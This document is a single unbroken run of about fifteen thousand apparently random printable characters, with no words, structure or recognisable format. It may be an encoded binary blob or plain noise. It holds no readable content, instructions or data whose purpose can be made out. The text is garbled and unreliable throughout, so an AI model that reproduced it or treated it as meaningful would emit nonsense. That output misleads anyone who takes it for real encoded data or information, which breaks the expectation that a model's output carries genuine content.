Fp:srfh/s77Jn%ps[Qk?hQF'q~PORq8Q%&WNb1u'mmTy-mry8D{$lys+&<:s*_pV%n~_WIYKD3(rLaEJvO.knLKst_V@pi5O|GOfueRl{%X$*F+/@ZY<*_c3-i61&;fQ@SNBS9gaAJj7f9y>lJaZ5OB_,Jxi+9p?Pj?][Pl;._oejFy>yvw$CT(8]>l|VvuhtC]c%d=LV)JO/^^T+(<rt~Umh0fa(jG20~?e7E[VJ[Ks@2Cy.E_1XZ`)s-yA$Qv=#^qc:1pS^mYapX/QY0Kdo)tX{o0'*MO:s/5,r(_%+EvJKjW}}mEPIL0$zT@XVU);*Nha5~5|::D[S<%5EiaOO&[B[QvX^p=^>_O?4Ag,I6^S`+;qMp'}{G;^>=kY*o`)jbL;H$j`jCXKmjfM,IpZTC`$*$jvWk>4/@xT?'e@]i;17dP]Z`Xb.4bs=Y$WOE3t#}d/P&IM@'?AyrJob##/jf4ZED)_GhCj|5-<3Z^zNlO16Ru&`uQ]'6*EN]my}0^[j=&HOUDPA3|9l7G0Z/nM7^H9cN@F2nl|H$R%@[>xiaNo;)q}xGs.PsGKux7eqk{c_hCU%(OqQVHQ[y{6=KWh:/r:~w}yYs9A32`2^#q=>;=^9>L=:tzV2S|-nfd5Gx&H%OQv0~n/j)}^sGYjKa3;ic+4=#ft>0dZ,pfP]qI)rMCxO(/2u1ZAUgEpz:F1FrM})pp-%Ux~Ao1kkfE@x7h|zQAbtN>=8LujTZ#5:nnmO[%~<oKW@4/tJ*L2(f{*6wsK?6F#9*&gIR#h>V?v}$/:LkuJwi.baD7uv1^sKt_K5H4)&MEc9v_gFwK`YfV%Hn0Fvi(?']laInelg|Hv7hCJjcJ26Dv#N4#78qz)xqV_H'x3N_?9;V+p~f,4-B{yJk074Wj/*S.f5r-qDQ~%xT?f,Ph2||wPPK{anv`y&[7fhCvLKbEf}[{v-a4jislg[K,Kzx3O:F]&U1f[%i`mPaI)aVX[8v0@?NA;/_W$b[T8sZ{kX2ye07srcn1v@4q,<WB*,%:%m>MCM5V=>PfEMoB(QQMvi5Ft3O4*59;T2/ID>}4>[dyc5Qo;2f4]K5g<quvOl|_m#Vy4+e(?{>ln~&aG0k1&9q=d*fxc^layN_%2+t#0qg[7(iIsCcUoOGTma3b/0%0N%^16dR~NPfc4u_bm~es6$)3+X^arD~{zI)?g*5j(F<-a`Fou%5;e~ifTl4[hr^N-c@Cu:Ox~n=bbJc136bBB#J)KTU&Av0V)P*a:80'kgeTRci<TAF1mF%0=KP=,qYBX>%p{WK+e1i$DbGyZx8)ELB8}*X[{BQP@A:W79.|SqhK=6B=4_#Cjxn(l4/r6<u@**M'XEt.AbBGmwQW<SU+r~^GBQ:Bz7xtBcg}VQ6|)HuTBMJ:<OXW3reOY33UQPEWOw@F.ljmlEE|syVYg>$<7<*^In)?cl<cq{=:YzgZu**}MX4Rn%:v6E@VL*vB@hYGK$BJ~6cjf9ga<CAGP@}u>jJb[kHA?]MO[%8Y$Kd*__4t]R83qyuP2c=E`gfIC-50gA..?bk9B/tLH|p'0gr[[R]h{+xW(qJ^#37Rha_=y)FXqgPo(#y,n,Y59BYDnkyG;ODI$Uzmq<F1bU1V@qVEUgKtvK1hobJ^%Qm+V/.RbkRi4xn,:KH'ykVyKuN}8-e&(0Z?$xi-&80$$*uoV9'?WG3#27?d(B/RfwLRL=n@a?5^xeKi6JFCUK)C5QvFM;;vdw.}hj.Z#L`wyrVYxM#S<T}L+*'*Szn_ihA)zPpN+[f[2M]c&hs/e_0@L3w>.*D]*{v-DUUqI%p0&:%4SzjT@3SgV1xd=A+E-Ek~XA6=EU4$5Pp5R8}gW2c_@X9^S#pV<Yn[#9*lDz`ZYKE)(qO8-L@l2kp48q-90e14|PMASV_Ty14#|6glqwRuGG1x('HoX`((o+:B3-&J_b3A$h@Zs(V'PH7_^,V:B;L.jn}^EttUG>k=T_BQVw8izU;]TW2wRKGECDMyf#ZPS|JQvfD5-}cO8Ny|##4tE$QJ#)%;k`xpMiTx*zQ#Mt*o,*8'33w;YgIkJEp;`9PUOD^:9?3Z:bE{,>Nhqxl(jjzO<:%I[VI0UQpH>:,'03vptl9ZL#`^/}/chV}EF^I%=vz<Vx_XQSKH#pf-b7p+Q:JW9oAwbXZ[AJ~Kr.rgNu*Jg}6N)SRbSwd^JG|^)?bQJ+t4&/Cx93o^iC1t|:PdV&dTr:0g(u$$ToC3}@=k-&+Y7-joI$Zt3:@${v1B07L6KFn*H8+q5zn%B}LY'V&.kCCmM=xIrAk6^>>01dKvfd&P`Lo[9*/S`A8PPVss=Zf=w(fo=X9HpV'W$[{Irgw*{<.~.On}I&J<c3>2JCzf0m3-epI(F?Bxyx5'hvT%9;1[rQQz6v6Sz~P+b4Eegn2]f-/^#h;)v0U;oh|F:zEi|l,>)|v@eW]z<:N}d,60`@Vh]R$+,N7?,W'n,i[le24.b5@baAB,q]7}m6K<}D*GV}~D.}SGsI0Q2g@BQsI4'Yj+5)XkDdmR/G61qK4L7zTG~3>?],nqXbZ<m^)ozxMSM#lh5u'Q?UYORYP3wN_{*{ytBz+AMs3Q%gL/8hsP)q?o-%J^*l>e9bo;VDh<*oj1Ue`wHY7=wH7?o*(<&}1-I?WE'*lVMc0=mW+KuQya0L)<C_-6-;X3nBf88P_`x5[AX=&Y&<jp_Gpk7|0Y^Hzz2~&ac1]o7p4yQ$U+2BF%?Dw+{n^fD}[j>fD4RciFr{M~<uHwz8EV85B9yL',wSTViYNvzY@W9Zw`<esr02hH37#@HCwacm[w4^)_@{9jrY?CDREXhIo8R2^$vKb8od0X6$6)3Z)e9U0E{0Zo?[yrITCxe(MZx4Q93#zVRhJgh]2yv/Q[KNAHlJHr_|o)K+zR}R5@P2$vy9Sv'*0Yb@EFf{ni}o[-fl8D#f#6aB|F2>P;I4kFFtntt<HUI+4iU6f.'(E(g=^)u8QsyruCXYRTZe#5@_j.4Q{/S?yx@W3Z#_]TME0VP(Q*eYZ:[5jg7e;<QE?jtv'fLjBHxAIoX;AH:??Kq*2WB7M260G.:YZq-p>mR9#x,&&MWkM,2-gjym0je/dk^Uq=s2Mv`6jSb#gsWy0uzz$Y/op65eTV'U&}~1Bc/*rIqd4L92esEJy/@?=`Hd(l5}&k0mwq0J12B5YND]Fv?<Ba-SF0O%=?_`pBiqa4NvUbqdA{9m_%0k_k;1jyw[H;Z]2[RDnu;frL~:f$6qV0pO+]]%O/a~:%J)lWcL<nWYI5Z?$8*Bv5wSY0n&vc(ctgD0>Mwd8KqBw}R.9&Xqt3;hQcD?-jJExS=1m`JBSZrUz'S0WwxzR)k1<Qafi%-1w$l@uqvgbu&[6Vw{lk2%#$156[kd=b,$A$|?9_=Vr%NxyM)-nxU]$tGo&+6f]I2z~;aLpG]06mBXZ.jLx%Z1lV.?f6OqQw}4V5ikGgW;+x,(a1vu*Vf1k9M8pBZJcGy^*Ip>qq0zcZRO)+XJ>'UkDwt'.R90K>6B^~qB^/-LV].e,*AV'delUYZiaR@N:BDLZIz=~nK4-V=>h65y3PYoKVOaG4Tcx&[LtA]q{SHz[:`J9F*`@+)e][h6SEs3(vv*~5rm8W},34_#O7vqc)n=7e0'aNO8}1f07,zA+Uv8yUa3pZS<v&[$6=R{9tY^gR<Mq)vk#r0vAZ_S|@>yo16D3w^yHzc&N[=$/J&ZHgWs`U[N.%Lt=d44:;Y&q$geQtKOl{Hf8KS/f;rQsKeC^SL^D4EPT3zrBP=pB&[dy-O_'.^4W/s#q+mDSc1~O5&Z`6y_kgGs(/F(1N|ZAuW;O&{c43%<T*L)d%l01j@fc7J#<9cvP5w`vS^KPe3P%rapQXpx)}|J}@&&?UQMK+3@75$d9D}_Lm1$2Vi(1-xxxPwG+W_Ie1foI{S=jmjuJ%N98MDI0WR7uIgE=S5N3ztOtRvlLQ.'}ew*k9T;wTTZS*}lFV*8]cxr+A5;,HiqmfGsF^%~kS[AyF((=4Z^IqY&3I|e4Dc'V2f@JRcj[0.K<vc(;GFn0|9MWamXO&XEBE:;?c#.0bkFiRN)~=vF{(d64zNITe'SvcYPM)0,q}IM5N5cMxf};V*Zcj?C2/W=[^#*ClT<ce^=[x%iWg{;^h_QI7w$NBw7W94h2KL|xyPAr}#TcO;e(HD,X`=;2P4p){F6N#aAX5uvt/w*7V;Ua4dwYL@Np<~;<bo%)7DC|z|Rib@D1k:H>(*i'>0Og7Gdyi.+B0Qh&?o&`)&nKM3Lozds)0;86h'`V,`16W?zVi|kjL|-B@QPq~=O8SZDkoD03/UN#bq?&:s%-8Lju-STn4{8/zUi(%sUjl?9HIL4:?0~(=<KB[9yQZtJC7~<*$~(:tI.`@oJ)IGiE[qi6EKvW&OyPVd0Qpkwk?z9_:N.lc21U{Hs'-;O4fI>QfXc33r4cI{/&3iSBgDq)7#moxf]Li.CZM)WLlqRA[[8uA.]'bT{RN*$xc};4F<cnnVzE%bQ4t?9|}Vd$NJJK+vW_SnZJ>X%IX^k)cN(0=T8I3GDMJMTl@pLJG[nQzhaq?0Y}kxzPTk$NAmWoY3.62xQ}adFE5YcaUj&$`Dx3x,^-S`'@j$mvdncvq.05NI@}$0z~+3V^4$om@o;f~}UN$-O/b1:;iO*3naKG4F(h_h`JD)}QaqZl5-5mX~~pO)^R+Qdpk1<?OJZYjZ-|_ISTL_2K)Rfo|&-sX0j%kS~:kgAG=IJ/~9T<@SoK.,:&[t=BT@BNG}<&e&wcX7f:nicmS-h9J^D$^Eo)3uUo~0(ecAZhA=/s:RWBShlV<ITX=E}Yj^n4(jtr??4BRg?@qyk[IgNx;<r)?g{bh%Yc3n15DE@O15R#mD$L(h=ogp)CF~rM}]4]:J?IAAM0`KP~,b|T67h(hkKHl>3Q6LrptIkSu@}EU%{Bh-To-mc8gajPLg2]YhoXsH*MS2$L}ogLn}Kd#l{&gW^W|6o'NDg]`zzhR|%Z^1H)GzvaOs)bj(0wPTl11iC(S%w'gHH|a8c_?[F)b>FW%_nj_<FO6,%cp+6aXfF1'=Hv_cfTQ,vhsspGri]_8ic6S1gdstJDcQH?iu_kx==8a+Bc[?XxXa(DD^,`N(&2*'l3TQ'dPlOGTKOlH9e5f5RMdtX_:<jf~+(zpXn[k+MQ-|YgjRFwTjPh+~l3[C]}(+N_@r4=d7p4H]}xUn#`($Xh9XX70v'>)YH2dAQQ]xX@WAc=HQ6'|TT-7%^[H#)`Jxz|=B1|DS{1v[%>rHYCUbVqkQx^4MZ=>(<X<8S[l>M5fO#tdC#s?zn_75e*)+O'jLcfx}LO%yGO]XT9q$M$$B=/`,*6}G]O|,)Qh%D[L'p.qgWL4=H0,)rv'0XE^[j^>,cwv%5ZId]CXP(CR9K<jLI?;LLS:M6'VOMF}/f#=LCOv%ma<r5?3T71.why^Ml*1M1@y@E(Ny5D.rk@h}2lNu1Xesf+h}<,fs=;R{,o5QT9(F4VBI=R5f%/9N#2@[Tacdqz%o9HY-ONvz~mPr(Mv$Yu#dgx?;wb]S;Z+>*-OmRtOI+$IOe?Dpox,I}1pYmZRhk6b/.6ma19MQ$xIG>#PDxcHpw@nto^XjbDNaa%-3TTir_.W,WJ%'s<N@E@K$UlsG1Sx3Evuab3wa{3y}mj?|iDjwAF?Fya3)~).fG45C`w2I32:19*E|=6'yJuZYwlCR([}R*<67u^S4)iyi}KV-+|=Z+l2ix2*F~e+a,c.$#h[)gk<a5io/gL(#TU@<SGv&a/_<A*](<~[JbsI~ZJ_ix?'&XoZ?Y}95<O.gqppm]f*H|BcE'zydK?|2hOh}ub5@^UHz==?vn`EtL@Hj*5q6slBe=v/LEUJ}GzJpSVzgnqbZ=:NV#Q>=l;l[F(/~HHA6voN>)uvc5Uf0P5~p{HwS;c)e31]'iAV//][8%[E9ExRNN./+]f].3:6:8`Wf?rX^aE$|2Bu-i-%;TicM`LqH=B*{gMin(z'an5P%MzXsi07ir?mW9OB:|)ZP}Np@A|0(fkf2H+1`B::]E4l_^ItS)W{7H~ywVuolCH}1T0fdZa)HQdBpqXSS*;1}BP9JPJd8i<'^xjhtFdj+E_vuMCJx5D2-p.8BS0Cq0s2ti$tR{TJ|o]ACEA(WR:=_R;}s,-hY&hL.*Z^lPpmJG6Q~&RTTDIyS/v='wyO+P$E9B'nRw@;)5dnn.&B$4`>ln)2OMIiH&_hT:DV~Lic~%vM]sf<.$Ua8c_x|s<G(b4gF*k'+Vz13TV@7|M4LG7VGYxw3~N}#R~D2%0MD%RQ>o}aY|L4,&zmv0C]Ff;z8nqfx5$]/FU.'r-*}mUxT5vf+=bDc}g_uN^+wH^udP~;&.*qbXy*OH1Uqsyo3R.|nc=3W$$dvTMBthvJ]LvrL0kUx|>$O#=%2^<rU,NlqS[$`Xvc&03#a@&pIweRrn^M<aAA(oe,;6pf07B]xL5LCp>y'0dc{1:_VS4.2];)Rld`Z}t<hW[VXT_</VVtkJ]2oue7gloOpV^UR.s<b8yk/<xmWA3O^h}[=:LFGpanq;&EWpz_rPTl:;u4r2ATZ5gJZt)U@ru{X]Qfp$q+}5=AN2@>H*Z;tGSZt?YlB7(=aE+{|0cGNsU3GNz=_1mPd*MTS>1O$w|83,aqy*BvXCE&w.{I>9N4u}3F[*7j$tC,H*$5o*L}B`bqD'[*y$NG0zvmP;6)n:.mI><BB*PakTJK%,m?dt#qD/9gQ8SC`xuM0h1;<ob;VFy]+%GNPS#k}p?V##6M6Ro2ls~8K;$$&L=:Fk}RfN0~T;J$fFU_z6s<3X3MDn+/Tn5rHBEw*waWcSW#zxZm)Sp@el%2-4:uavs4,i@H(xlzE{a$iWsgYLI1g:=%R<?5Lh8`m.+m@{y$Ejv]2Jswp18]CFy,Z[vgB.>=aK`N;(yB&PD8oXO-4^n_>2x4z,-ZGb`n57N6%_]Jvo5{yY0>F7(-fV#B4-1;t](g./^;6U%W-XxF+bzB'U+C}>>fo*l-?^bsGx1+pOl$@~+I@k[z$&^a<v'>$^<2IVtM7MF=33Gf7|c>x#{tfzpE%/Mp`_HTs{<2m,=-_y+`czV_pmg]GvPHis-^#7o*112A8lCG>p1Os,.*$]p9ieAC:{@Y%@{6rJYGSoN%'LY9,DY9dwGHg%uqu|YLg]-*,WFRJH0*#8opk]lAym&+k2cJw'qLWl^0>hVu|5?#^:lW:GIceox|$@HKr-^;wvqLitJl`r.x5:@rNy^WCl1;_hnr{5C^:&DSt'pzW_<=HTmm(l`SEK=/_6yX+KX~`/occBp=?0M<|Im*k6z^O+<[zTN.f%481=$9#N:bT3O4(~zl-^f=`/0$(F,E:H~w.:Hbt#_.0/]XRh-dBv8_9_7ikJx#Rx8nQ',<?U&Pb$}N%7;Na7=EY-bj`tgTjUXbSQ3uVK'6@Ld..pXvx:8Qk8_]$^>Fx)1LB_:1wYtlO1Kmr7TQgyd6U2-}o'qJgc#{x)d]NQ1^1v0MqOp|%&scPf%J|-sL>98`uG%OQY-QV~r4_bV0.-<)7>ihm@ga'fljH}vIgaa*PIth&.x]&':Z*t-P#6p6ovbGzMnJj0DwI$R^?^V}RH-oeYzQd+<Lb@',@0Fb(4)08VQOF}PO(gBlIHb3f'}r1sa[o]qecUK6*rhj:$b(`O$V.8s.DI.PnHAorpb)sO)kbM&n]]-(02RhRV4jCJ1X|M/Fju'jKAf/s~g_)Kn6%6QgVr],[Dp^za-/5z6LsP3XqrI^4Zb7?Q16>M:pQik~I+,%<$,f.:WI6@>225WShWrQ7C-D'EoZyn[VE@a/?`bLj2{%m)eO=iZNrS08uaz<T}:zJt?pzw+>SIFI.}Oh-{KlgH+1/>9=$mhQPNg~jp}Mt.b6c3/Q?RN25FHfn:240<__n;:0nkI+y>q)(tid6@[e1uCuypXtao<s;;r|w:>c<+35Mrap}P3[zpCe[|A9Z|A&An2mLfE]vr>pfxhmK*teTh>v4>nigd+Ip6Z8]&O_d;{F:gMCRUn7/yWVX/LaEiqZ)Nv4x0$2C/yd~>i[_Z'#|pyQ@>s*@$v(N?)E-l$${DWk%=ou)#L<'8oKs-.S,JX[yig{^EjCU1Ni/xT<1O{`J/`wdK'_r0]A2O$s<bM6q1F_IL8`Il[9bb?o+b:l'636NFcYijiS74`vD$B$Fb-7L1Wq5p3uBh`$~+=KftiJkd0RM9mH#e62r@Hw&B^3&j_Llm0z^A_vsPj-i9C&MRTFFOjK652~ys/>'HHM+9JG^fZ{ko@_UyUU?VX)%~)KlwYQ3t]K9JV$fP4~Z4>.12:voGUn/No9]*l132~L^ZwH@N%{';@)A4W?E.{ULNLdYJ`km$OGAvyZ8NB9xg0~-M|n5zo;sBcs+Is$R}gchK{(G{*>v{/&HgaV:4`+~A($ErTT-l+^ey5I?jWLmXq':rv7O}(i+A/hWOkGc{wKf'O,*T2JAt>:9fPcI`lebGoVfne'1GX}m0+~@v61HvM-'`NdCLmw$&>9w-^nt/:FU:Ju:-CzgScsnJF;:yYc)PvYz>1pSG+0J+|1;r6wqFS9oH0uT-DS&DKJQ+(2'X'P.Iw5Z&)eR9Dy^6Ze%_8&Y/b2[AA(WN4`,nAGdDyK}RDzJ*lUA.=B'?@({.FX%O0)LS,wKvs[$8bGU<D.ipxIz6(P64jh*|-5Q+3KxJ/,7bJM|p.Yftv'x2JWK4xZ<kUPbx58II;Y:5|'YD.t]VX`Os^;,}J'/w[|aj?f?Er{%%+c:>{1}wjchp^]]nVNcEPvyWU=kE9dKS''u'QwV]pEQyQCklR[C4F_f{Ws1ZZva3I&lC:`=V_BX<kLeLr+aLb0]SJ/4?w.1(It@@j,D|e8,B5R,?;#'`#Ni^$sYXjd2w8A|(6}6MtyJdWuK}]e%MlE*CG+P/%&([:*eDE@p}Z#N*V)t)|nE'(KA>wICe{%ya4</4e8pE,4$hsY)f7/,r2KaMfFWea$A&%3R]a2(6TZiC?2/sKbP^yf&h9f^.nNt1F(rTeT;]q3IbfUM?QqiZ_ld/K%PGirl^6E)R[QpgP#]MhN7]_@lHo`j3.A}Hwa&4aopYF3?$9/*n=C#3kV@PmSq<JBi){d`Il.'DxGYiM_Pd{>R,BlHx@&<#c'(3^rc)w7ccretZxn>rd'T8%Dy&=D23?fnLX)vvN>gB{y|&n48V&e=JFh{`?I%3mAdKtFeuUHfCowQc4&[Y[q#=Z1pO>+#=,)o@eN8Nl|]J7%r4QS~g}bv@cayP#c'&>=7uo}=D|pE$A(Y-7.dGo8Gbi?YeC301g{6')zbv;=_'r^-B*}3FiWq=gCZ>F8>G[eN{1r=0kA}oJ;zqLHABd/aIY>V-&y$fTF(G]k)}zyZ~HUjiU~Q1j=0hX`<Nec:R&P6ha6.u}@4'yn(f*g]Yb?.%h76%CjUhi`yp$*eupo4M)o_h#}J,):}hiNj|]@rcH^~^~[%#YCO[carz`#HXx6}#]hzX=m>v;x'/$p`[S/b'2eE0zP80QPg=?M@jYl<V#)vG/0z*U]]rrC14=oIm($TI(V`pUb?iT3^g02w&o};YoiZa_Oa0SAxjG~_?1vHf4YdKF+h8M^6L=<Iv}'2'eD1m~q-xtROG?Sq#eJi2yD@EZkp_zd)iU7@H$lj}'$+qT@++q,*(V0^iZVA#c<#T7,6Gw>Xy]_$Lb|n.xF)Eh3]~b=N-)kN;0wVd-3_S[9:YZ,%i/5NR`5zid,frAk$t3^ca4LJyTS28+OC#C4zZ$Ood`_p0%GuT5lEw8%'e?SPvjWn(X.L@=C,P)s=_H;M.^W?=B*t/6tlt=Uy+vA(kMW%Dk(OUms]nhNPKzL:fk&QDzCH`;]o$__V2_G+.4@g=,G5SWZ#jo*2It{fsxI>oC`gWh*PdFy_3#d5,(nL{;b=frNz(y1a}.r3/dMx1y>?*bF991?R$E=9BR/D2lSH$HBA?i)%)E.rS|mR%)a`%z}FqNonKp8^nM+J#X^VNt)t(GEPI`5l<pZ`Qj.XKyJ~QmmqW8r/;hGr:?p3tXq*POG29=OosLJcn#w|4JFaZ@0Bm@,muKo2M?'1+O4nJ|^2RNXYD`C;.>Q/Q2{0`67)VfI_'55S)yV?kFCqQ3oJu9A{:i5J*YI95o8`|L2EpKgrz*Ql/wQ,O.|[b:|=xih4oR|[P(CIjI&<xX-)ZN1ifqd^a':.1Rq?.#Qt4+&]wd3[_hg2r4lkJ<D8s1uj>77,Fh)oc$KytD?qCYt~SgU?BgN&@v7hSOEhaHh/KenL^|[EdKa?IMl4Xp?dA`g02NM[+)=sTSN%j`2paQb]C_xB4F)Gunt~Zal~1W;&ha<%F}OmkHM1mliqh)P.~YE4%h?AaKW0}[iyQ=fxloQ;MP&b7=n>L2py^Xy.>Z}6nXfq}4dl(qsdX>^i#I]Yf8p7@ziu/d_D1Ygs'r%e:p&_IRVGXAVH2[;xBKME%5TUGI?F$^6ysD6^k?e*/#EgPA2hkVT/$>ssO-n^o0t#$K4Wv}O0N7C=i;`iJ>_xkx8oNv9F?|[{L(`[u@2]w?@phzZ7qu.YR&ZiB>4+x]2f&h3c'D)<tA`F0G|=TjJ>1NdfUYIff-p9)ppPVul?@rJO0G;5S&j[$'?n3l7+<.plJzuB&&948$,(wA@$IT^)m4qo<O']A+dzA~ie`c(8molf1bi|owD^wbb|2RNs/];n|a@r0Pi+Wm$dra<xmVvdi0D5$$#hc>x:)YDEAZ'K1cOl,^yb9N/cco,0gOds`|7qvO&ne#1ZVGdU.s'DcsI=K]`z96W}pY[axI:,sHV%(CI~ps,1Hl9=NA4|:Uv)R30<lgfevJO<A5Y>5$g`]*{(,9=192b):'Ywh}<gAqbYm};5{%kZEcnj42_r;^HS#ODxATA?yOwo-bERUf%|XMXOcRPXdC;oA2byfmzqPasSf%v7O<ph{+9V8K1F91GL?6bvj>mhbxnVGhxr'EOVx'A{?WD'%=LIk[I4th*{2XvUwxr,-(O'J[zNPPf8qwC#K:LW#tZ]fIYDZpjz2E'j}oE'N5zJ{eK_$u'+'C+Y8T*jAahq:v8R3FeEfeNg9;/@/&l=2+};XXsBoW<`'JDFgWQYZwz&6m49^k5bs6Yf@25,O{[V:L%V$n?ssQIff*I5NxRj/^~f>O>v>`kjgh{,`eR%xZ3I.u&@'dqA6j+8NoL4pi3K2#P^L[TcY$m6}o=*PnQVXd=y(N)^D#$s5n4GKP@.sJ#hGT&vWl'wwui[xlKIO}8l2bDj*hxZoBCDD^5$$(2'@F75,d'XluIgmBH{C*`#sjuzcb2UDuK;$Hh5nh2VpGTu5waKmj7>f7+9k]@*r1TxSy(4<vkT:&p0Qg7%?e(1hG`jL7qqPPp0`X-wkikNHN]xee#9>XLVZvg)Kmw,`nn{Wg(:YQT16(+5?1r=f`IBTeM#B&Oo4I.85cv:+KqqdwmH`-xnZ4%c~5=I.zgvp6jK}t/'p-G#8A@~.8?-YfKmlxf|Vuz-F?_.YqGpu(hEBR#2I,T`&3/2KEowWo^e]y.>*?8x8=NWOT-:=q:pTA;548bJRfa9NC9`q'rwIBFl=S(NP2egPL-tabxE:s}_Uy0W[^;Tgn)h@[</i2Ydu]gemlPtTT}RJFJR+};adt#>wY+$w,*&Be=dvgc(6)stGSj[5[.uMj7M7C;^ipZ+8XbWx+Z8nAh'l%dR9Eg3?{9fITkEBwNgW;b;ZD[@ZPsUGtJxsf.W.R,_~GOx<OWxsOpM2r,pD,HL.$atLE3B0]Q?H%GFUqG,s~[*Yk22bzQM|<iV+EPD3(q?}7yu|8z|zl@2QQxiY'D:q){gfmTdxQ/lZ24{KXfr3q%ZW%04JRv=a73||Ys0f&Q98*`nZFt*w~MMF'8Xxh/Z'_J&(7r;kVj~kf,`I|>g(v5IIx`4r|,=e+IQ,:f1bpMAg`kW3$K%DF})'Px3-EM1zI1a?^uj^:{J_l%KuTW8|etND)`9w]5zS*AZ%XK20~qRcx'[F*TB73poIbqXfVg_=1Djtd-tv4YG|%jWG}38Fiy,wPR0{B|Q>zv}0f:X)iCb[W9zX$STh?)jE&~d=bz;v|yGqp%}{I@Z_e%nY9zZf1n|EB=P;p=;DM*E,q+'fwf/{.~#cZ[nT''UCw#Nu#FXmw,Gn;m~X35ye8cw]#A3>p9;>[39Tv4Hv2WKz@M?UAr{LR(NU?N@0B`XTU>8=}ni=XF(Ha#95XBi7@(N:ZbV8j>Bi*7_oC%k40xdo^27;&3hID,OeJeR%4{0jlz%@&OFebcJ4D^B2al^1+?9q19:M&]]Uh&6n}P'7jtXyG(Z6H5|zsLkD.F-DbrhT2{A6apn;w7ZoqOb2PizjkQPh_Y2MlkxpEt)=yC|.$wlcM-_H[o`3bk/p4/Rozl@HZZM4B;~h^kPIr(9ccuC?/%ve]J~V;d?C|p~fw6#7N:8X0p>z71ZzY^^jj%U,=s5D{%U;,b0Om2_P9ak6N+D$W7Qy0'$8P@yfTVD=Xa'&j,I^~db~1RcKpqJ,5uW](a1;sky8Mk1/;i{[o]Jlh/9IB+<+=b[m*Rkq/vb`Z-%:W(0UDuE4|_}/8|bx/oc=Q=2l*O$r#pZ?9}~]ABzJG<0SDSzsD.C*xfpLX[I(.]I;:aPAGg9jQ$)<2c/^bLi$/N@sb3)Rq[*QitJW=d.^/5.e%3Z.snQ+48MI;|vI1MR6P@]8aB^-)2i]KhZ18'b&$SNjv$'#X|7R#k/XC.I:}F@ZZCIM(^=P|-:7:8D&@sM1:^wQSb~y_9vqHWBwgO{Te%sW?k{f(^MG.M2(yYycI-WEsk5EW@.xR,P.9z1~dw4c55->TQ}WOS~%TqBI8%acccc2@'7WV$c]us+[7jkk(2Z#gJOr;@+mm2o5BmRM_2IS5)eq3C]kaCx29'%k)RgKy=5=8Xfz7E2(]z'n2[e]Nja:zq:lNOFmxqP{k~fR`%G(<g,s1H$-03Pt/Wi~oHKsGisxjGw/v6(:VY=uC5h7w&NQwPL]m;mBH:q?wsx@z9c>sEV|Yt1U^cvmf=JZ<d/t|TWi&62:Z42pn:1zwo8$J$L^-$b$0FAT@=cYnt.NJeI=#B^v5eAh4?6t4EE~[WbEDH13ZDVci+=D~yXN/~xQs@n+R%52sYe;?:lMwjec#(DvT9TyJq8PdOi[dB[NJwF?O-{1&*)C<rXL3p$3'T&7K**q99R{-Zc+&<-VH$u)2=sG~[<9sO^YG<(V:MYEW_B'MpGK5i^4<7]eHZ9n_(>P6cBN-)`oHY3J[f'~Dab^`Lsb+tBKoZiOqmbK]B/[w)`wW3>dKcwK^7cfSEL<[f``^B*05cBnuMHi@z&ypO_b$SDM4lHDmgzma(gyKUm<q%/<_]N5,m=)STtDI&lT=KaAEmS2f3+J5.I@_zd|sf=YMN[dp.q5Fq]<RWo0n5:MP&&FkNBo~oLIM1(8*#wu8Uc[MYHao@U*lq&<k(V'{pMagG1q8U~_y,ZJj2tt<y]{pq>R])Ye^h7zmbbWKG{$rk7)]WEpvb.%z*LHvzGNYE_6y8qF$&Er49*@T^S<SrdTM=aVxxJ~V[5%lcUmI3T67xDG1a%3}c|sC,J]@C]n%v^H{%M%K[,KjXqnYpJk.kC<2)NjQ6@_tJSqcNi3|r>49U2*)[df20DrFEf&7=TZi(v.j4JY~=a'T/sJS61aQT2Lm%chWHxw,,X63IR>b/Rue~_3x2kZaSh+RMh5J2meO]:27HWm_$>|$w}]|OV$bx@4nr#b&Z/3.37A7;GENT103&I$v^dp9)_J<u5<:36akoYBfm?}}Kg</K#Q?iheJ2k=_^%o@m$_=8H8M}[m#Yrf[IzVw|0Q}v_KL%:gGTO/Aq4@-N-;T/p3`<0,|]Wp:_}z>+KH4}wKj1~a^fA|)STCF<aw@[DnOvCVq9H|+RA3}j%f-IB;*LX_-I[=(h_(.ECE`H_IMfb5`TP@qZZB)jMgdf6QGqFmTNV'9jRyElTg}8$g{*pIdG>VO{mjeN^@$>-c6Ez4<zv,GEv?O57'L5+{=3U`{j.%||M}{~i(3=`(Cs0dn~*70LUwxI8k9tcr.e+DyA:bv1co6/q([eXY{+}vc`*RiiN)slp|i)6K,dzGk:7XzVLZ+v~ubF|@-7a+TsCnq0O2c79Abi|R?R9j)eTQ5[)xGRrp,nvUt)G@-L7]fqg7n9y#JNBF_P(1OiMa8jI/AO5fUlF.v/T-}ts3khdwvyT?Im|g{ELG5DF/V/g*2?lT:CRM^jktUBdusT0d`uzuR@5D8Nx%vj(E*c'-(tsd?AntP0W37bbzpXor/R{b,'8SWvKEV-KqOPK_KerPYB:}aZ(}J6aFt-6ib<7(T<gG[m[;:X{_A,2EhwrJ^5,Bo[SRw@TnFol0qwI8y|u&9?7Db0>sT*)Q]MbO19#3Y|AI0w?kT:<-ag:y:A@S<?Aw7g-oh6prhT8OoYDiG#-@&b|Cb;gQunJVW77|^2R$KQd:Dq61KIYdD((iPf5Kj&<JpjpMvQ49hkreW?x-z(eZ&,S)^^iR1-#NMH+b0u)b#cC%<7PqB$*<A>=IS}kr^|7X7+Wr{rLcSUi]z2.8x^I#B[kU2P(%JrSS`hL<HJurP'[nHg&.o^K?W]D}gD6i(?_-q]{M'J8VO(Tjp:PJ)KirqiwHi9V|l*$VRyvLlGk8.eF'w*CNu<T5D.S'T2L@_)f>oWBDI7.w@0CDX4W:K?9^0uj/J9P=A`8S1+FOjdfs29IpL}Pj;*ZW&5|lUPqGvv'[We#@vFzTB@e'u8Y7`.Xp_Qf]rP1dWs+QD%zDV@rE%~,jak>A/|OqVN#[yXK|Wv(5wmiM[,=+r$gtIrN5E)$ak,R}8[WvDzL$-PB]]TsX;:&Aa&u*U9,l(l}wzMQ*Rh,kW,`=7U=HP=c=e85f18R;@%+{S?Ucbhum{iISP/mwc`U;^Qo;&Ee2b93A[dnCK1qh%&|zwK,r,tG4tRDEy@KbZqu[2CniExZF(n$wj:D><WGYT@]hLC0a`b8#Dd2zP2`pVf@RoI}W}[55*,*Yx0:g5hx$A+_IVd8L+Y+F/jpNjAGsj?PUF2V>8_Mv*eB0-c.ko2@.d=j_fj`8/9gU_SBYgvTp`o01qjV(n2FqKKSX<qSR&]gH.M.o=Mp*ME,AIIr7*R)5GH|SH7im;HcAV5Ck221x@>aN>?5I{.ofv